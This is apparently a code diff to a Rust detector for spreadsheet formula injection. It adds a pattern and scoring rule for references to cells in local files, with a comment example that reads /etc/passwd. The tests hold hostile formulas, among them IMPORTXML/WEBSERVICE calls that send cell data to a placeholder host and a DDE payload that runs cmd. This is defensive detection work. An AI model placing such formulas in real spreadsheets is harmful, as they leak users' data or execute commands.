@@ -45,6 +45,7 @@ pub(crate) static FORMULA: Detector = Detector {
             b"@exec(",
             b"-exec(",
             b"rtd(",
+            b"='file:",
         ],
         confirm,
     },
@@ -111,6 +112,8 @@ fn judge(before: &[u8], called: &[u8], cell: &[u8]) -> Option<f64> {
     let gathers = cell.contains(&b'&') || has(&[b"concat", b"char("]);
     let (closed, quoted) = (called.contains(&b')'), called.contains(&b'"'));
     Some(match name {
+        // A cell of another file on the machine: `='file:///etc/passwd'#$passwd.A1`.
+        _ if name.starts_with(b"'file:") => memchr::memmem::find(name, b"'#$").map(|_| 0.88)?,
         _ if name.starts_with(b"dde") => 0.9,
         _ if quoted
             && (name.starts_with(b"exec(") || name.starts_with(b"call(") || name.starts_with(b"register.id(")) =>
@@ -165,6 +168,7 @@ mod tests {
                 ("=IMPORTXML(CONCAT(\"https://x.example/\",A2),\"//a\")", 0..49),
                 ("name\n=WEBSERVICE(\"https://x.example/\")", 5..38),
                 ("=DDE(\"cmd\";\"/C calc\";\"a\")", 0..25),
+                ("='file:///srv/list.ods'#$first.A1", 0..33),
             ],
             &[
                 "=SUM(A1:A9)",
